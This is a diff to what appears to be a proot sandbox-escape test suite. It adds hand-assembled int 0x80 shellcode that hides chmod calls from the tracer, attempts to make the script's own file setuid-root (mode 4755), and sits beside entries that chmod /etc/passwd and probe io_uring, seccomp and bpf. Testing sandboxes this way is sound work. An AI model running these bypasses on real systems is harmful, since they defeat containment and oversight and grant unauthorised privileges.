@@ -176,18 +176,24 @@ def by_open_tree() -> None:
     chmod(f"/proc/self/fd/{tree}")
 
 
-def by_interrupt() -> None:
+def by_interrupt(name: str, mode: int) -> None:
     """Make chmod(2) of 32 bits: proot reads its number as that of another call."""
     memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
-    path = CANARIES[0].encode()
+    path = name.encode()
     address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
     #         push rbx; mov eax, 15; mov ebx, path; mov ecx, 0o666; int 0x80; pop rbx; ret
     text = b"\x53\xb8" + (15).to_bytes(4, "little")
-    text += b"\xbb" + (address + 64).to_bytes(4, "little") + b"\xb9" + (0o666).to_bytes(4, "little")
+    text += b"\xbb" + (address + 64).to_bytes(4, "little") + b"\xb9" + mode.to_bytes(4, "little")
     memory[: len(text) + 4] = text + b"\xcd\x80\x5b\xc3"
     memory[64 : 65 + len(path)] = path + b"\0"
     if (code := ctypes.CFUNCTYPE(ctypes.c_int)(address)()) < 0:
         raise OSError(-code, "chmod")
+
+
+def become(call: Callable[[str], object]) -> None:
+    call(own := str(write_own()))
+    if not os.stat(own).st_mode & 0o4000:
+        raise OSError("without effect")
 
 
 def untraced(then: Callable[[], object]) -> None:
@@ -231,7 +237,7 @@ LIMIT, IDLE, ONE = (ctypes.c_uint64 * 2)(1, 1), ctypes.c_int(0), ctypes.c_uint64
 ATTRIBUTES = (ctypes.c_uint32 * 12)(48, 5)
 ATTEMPTS |= {
     "mode by open_tree": by_open_tree,
-    "mode by int 0x80": by_interrupt,
+    "mode by int 0x80": lambda: by_interrupt(CANARIES[0], 0o666),
     "mode by x32": lambda: call("syscall", 0x40000000 | 90, CANARIES[0].encode(), 0o666),
     "mode by fchmodat2": lambda: call("syscall", 452, -100, CANARIES[0].encode(), 0o666, 0),
     "mode untraced": lambda: untraced(lambda: chmod(CANARIES[0])),
@@ -243,6 +249,9 @@ ATTEMPTS |= {
     "mode of an open file of the image": lambda: chmod(
         "/etc/passwd", lambda: os.fchmod(os.open("/etc/passwd", os.O_RDONLY), 0o666)
     ),
+    "a setuid program of its own": lambda: become(lambda path: os.chmod(path, 0o4755)),
+    "one by int 0x80": lambda: become(lambda path: by_interrupt(path, 0o4755)),
+    "one untraced": lambda: untraced(lambda: become(lambda path: os.chmod(path, 0o4755))),
     "io_uring": lambda: call("syscall", 425, 8, (ctypes.c_uint32 * 30)()),
     "seccomp": lambda: call("syscall", 317, 2, 0, ctypes.byref(ctypes.c_uint32(0x7FC00000))),
     "bpf": lambda: call("syscall", 321, 5, (ctypes.c_uint32 * 32)(), 128),
